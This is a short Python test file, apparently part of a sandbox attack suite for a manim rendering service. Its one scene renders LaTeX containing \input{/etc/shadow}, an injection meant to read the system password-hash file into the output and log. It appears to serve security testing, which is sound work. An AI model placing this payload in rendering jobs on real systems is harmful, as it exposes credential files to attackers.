# family: file
# layer: sandbox
# attack: LaTeX \\input of /etc/shadow into a formula (and so into the log)
from manim import *


class Attack(Scene):
    def construct(self):
        self.add(Tex(r"\input{/etc/shadow}"))
        self.wait(0.1)
